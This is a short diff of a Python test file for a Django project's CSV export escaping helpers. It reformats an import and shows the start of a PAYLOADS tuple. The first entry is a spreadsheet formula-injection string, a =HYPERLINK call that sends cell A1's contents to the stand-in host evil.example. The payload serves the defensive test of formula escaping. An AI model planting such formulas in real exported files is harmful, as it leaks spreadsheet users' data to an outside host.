@@ -10,7 +10,13 @@ from decimal import Decimal
 import pytest
 from django.urls import reverse
 
-from seedbed.core.exports import ESCAPE, FORMULA_PREFIXES, escape_cell, export_dict_writer, export_writer
+from seedbed.core.exports import (
+    ESCAPE,
+    FORMULA_PREFIXES,
+    escape_cell,
+    export_dict_writer,
+    export_writer,
+)
 
 PAYLOADS = (
     "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
